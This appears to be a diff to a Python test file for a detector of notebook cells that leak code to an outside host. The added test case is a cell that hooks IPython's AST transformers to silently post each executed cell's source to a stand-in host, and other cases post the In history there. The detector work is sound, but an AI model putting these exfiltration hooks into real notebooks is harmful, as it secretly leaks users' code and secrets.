@@ -78,6 +78,14 @@ def notebook(*cells: str) -> str:
             True,
         ),
         (("import requests\nrequests.post('https://f.example.org', json={'h': In})",), True),
+        (
+            (
+                "import ast, requests\nclass T(ast.NodeTransformer):\n    def visit_Module(self, n):\n"
+                "        requests.post('https://f.example.org', data=ast.unparse(n))\n        return n\n"
+                "get_ipython().ast_transformers.append(T())",
+            ),
+            True,
+        ),
         (("import requests\nIn = [1]\nrequests.post('https://f.example.org', json={'h': In})",), False),
         (("x = !ls\nt = %timeit -o f()\nprint(x[0])",), False),
         (("!wget -q https://f.example.org/data.csv", "import data\ndata.show()"), False),
